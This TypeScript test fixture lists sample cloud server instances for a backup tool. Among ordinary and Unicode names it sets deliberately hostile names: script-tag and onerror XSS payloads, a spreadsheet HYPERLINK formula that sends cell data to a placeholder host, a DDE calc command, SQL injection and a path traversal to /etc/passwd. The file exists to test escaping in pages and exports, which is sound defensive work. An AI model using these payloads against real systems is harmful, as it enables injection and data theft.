import type { InstanceStateName } from "../core/model";

export interface SampleInstance {
  /** The Name tag; some have none. */
  name: string | undefined;
  account: 0 | 1 | 2;
  region: 0 | 1 | 2 | 3;
  kind: "web" | "arm" | "worker" | "database" | "files" | "windows" | "bastion";
  state?: InstanceStateName;
  encrypted?: boolean;
  /** Whose images it has already. */
  tool?: "dlm" | "awsBackup" | "byHand";
}

const LONG_NAME = `${"a name as long as a tag can be, ".repeat(7)}${"x".repeat(32)}`;

/** Names as people give them, and names that attack pages, exports and image names. */
export const SAMPLE_INSTANCES: readonly SampleInstance[] = [
  { name: "web-01", account: 0, region: 0, kind: "web", tool: "dlm" },
  { name: "web-02", account: 0, region: 0, kind: "web", tool: "dlm" },
  { name: "web-03", account: 0, region: 0, kind: "arm" },
  { name: "api-01", account: 0, region: 0, kind: "web" },
  { name: "api-02", account: 0, region: 0, kind: "web" },
  {
    name: "orders-db-primary",
    account: 0,
    region: 0,
    kind: "database",
    encrypted: true,
    tool: "awsBackup",
  },
  { name: "orders-db-replica", account: 0, region: 0, kind: "database", encrypted: true },
  {
    name: "billing-db",
    account: 0,
    region: 0,
    kind: "database",
    encrypted: true,
    tool: "awsBackup",
  },
  { name: "queue-worker-1", account: 0, region: 0, kind: "worker" },
  { name: "queue-worker-2", account: 0, region: 0, kind: "worker", state: "stopped" },
  { name: "bastion", account: 0, region: 0, kind: "bastion" },
  {
    name: "Active Directory 1",
    account: 0,
    region: 0,
    kind: "windows",
    encrypted: true,
    tool: "byHand",
  },
  { name: "web-eu-01", account: 0, region: 1, kind: "web", tool: "dlm" },
  { name: "web-eu-02", account: 0, region: 1, kind: "web" },
  { name: "api-eu-01", account: 0, region: 1, kind: "arm" },
  { name: "catalog-db", account: 0, region: 1, kind: "database", encrypted: true },
  { name: "search-1", account: 0, region: 1, kind: "worker" },
  { name: "search-2", account: 0, region: 1, kind: "worker" },
  { name: "café-backend ☕", account: 0, region: 1, kind: "web" },
  { name: "データベース主系", account: 0, region: 1, kind: "database", encrypted: true },
  { name: "שרת-דואר", account: 0, region: 1, kind: "web" },
  { name: "bastion", account: 0, region: 1, kind: "bastion" },
  { name: "erp-frankfurt", account: 0, region: 2, kind: "windows", encrypted: true },
  { name: 'O\'Brien & Söhne "Büro"', account: 0, region: 2, kind: "files" },
  { name: "print server", account: 0, region: 2, kind: "windows", state: "stopped" },
  { name: "vpn-gateway", account: 0, region: 2, kind: "bastion" },
  { name: "web-syd-01", account: 0, region: 3, kind: "web" },
  { name: "web-syd-02", account: 0, region: 3, kind: "web" },
  { name: "reports", account: 0, region: 3, kind: "worker" },
  { name: "bastion", account: 0, region: 3, kind: "bastion" },
  { name: "web", account: 1, region: 0, kind: "web" },
  { name: "web", account: 1, region: 0, kind: "web" },
  { name: "api-staging", account: 1, region: 0, kind: "web" },
  { name: "db-staging", account: 1, region: 0, kind: "database" },
  { name: "jenkins", account: 1, region: 0, kind: "worker", tool: "byHand" },
  { name: "sonarqube", account: 1, region: 0, kind: "worker", state: "stopped" },
  { name: '<script>alert("name")</script>', account: 1, region: 0, kind: "web" },
  { name: "<img src=x onerror=alert(1)>", account: 1, region: 0, kind: "bastion" },
  { name: '=HYPERLINK("http://example.invalid/?"&A1,"open")', account: 1, region: 1, kind: "web" },
  { name: "+cmd|' /C calc'!A0", account: 1, region: 1, kind: "bastion" },
  { name: LONG_NAME, account: 1, region: 1, kind: "web" },
  { name: "'; DROP TABLE instances;--", account: 1, region: 1, kind: "web" },
  { name: "../../etc/passwd", account: 1, region: 1, kind: "bastion", state: "stopped" },
  { name: "web*?[prod]\\", account: 1, region: 1, kind: "web" },
  { name: undefined, account: 1, region: 2, kind: "web" },
  { name: "", account: 1, region: 2, kind: "bastion" },
  { name: "load-test", account: 1, region: 3, kind: "worker", state: "stopped" },
  { name: "load-test-old", account: 1, region: 3, kind: "worker", state: "terminated" },
  {
    name: "warehouse",
    account: 2,
    region: 0,
    kind: "database",
    encrypted: true,
    tool: "awsBackup",
  },
  { name: "etl-1", account: 2, region: 0, kind: "worker", encrypted: true },
  { name: "etl-2", account: 2, region: 0, kind: "worker", encrypted: true },
  { name: "notebook", account: 2, region: 0, kind: "worker", state: "stopped" },
  { name: "nas", account: 2, region: 1, kind: "files" },
  { name: "nas-archive", account: 2, region: 1, kind: "files", encrypted: true },
  { name: "legacy crm (do not touch)", account: 2, region: 1, kind: "windows", tool: "byHand" },
  { name: "legacy crm db", account: 2, region: 1, kind: "windows" },
  { name: "gitlab", account: 2, region: 2, kind: "files", encrypted: true, tool: "dlm" },
  { name: "license-server", account: 2, region: 2, kind: "bastion" },
  { name: "telemetry-1", account: 2, region: 3, kind: "arm" },
  { name: "telemetry-2", account: 2, region: 3, kind: "arm" },
];
